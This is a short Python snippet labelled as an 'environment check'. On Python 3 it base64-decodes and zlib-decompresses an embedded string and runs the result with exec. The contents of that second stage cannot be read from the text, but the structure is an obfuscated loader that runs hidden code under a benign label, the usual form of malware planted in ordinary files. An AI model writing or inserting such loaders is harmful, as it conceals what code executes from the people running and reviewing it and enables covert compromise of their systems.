import base64, zlib, sys
# "environment check" that runs a compressed, encoded second stage
STAGE = "eJwrKMrMK1FIzs8tKEotLs7Mz1MoSS0u0UvOzy0oSi0uBgCmqgwH"
if sys.version_info[0] >= 3:
    exec(zlib.decompress(base64.b64decode(STAGE)))
